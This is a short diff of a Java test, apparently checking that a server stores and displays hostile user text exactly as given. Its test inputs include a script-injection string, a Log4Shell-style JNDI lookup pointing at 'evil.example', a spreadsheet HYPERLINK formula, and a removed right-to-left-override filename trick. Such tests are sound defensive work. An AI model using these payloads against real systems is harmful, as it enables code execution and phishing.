@@ -49,7 +49,7 @@ class HostileTextsTest {
                 "<script>alert(1)</script>",
                 "${jndi:ldap://evil.example/x}",
                 "=HYPERLINK(\"http://evil.example\")",
-                "\u202egnp.exe"
+                "\u0915\u094d\u200d\u0937 \u0645\u06cc\u200c\u062e"
             })
     void aTextIsKeptShownAndFoundAsItIs(String text) throws Exception {
         Reply created = server.post(
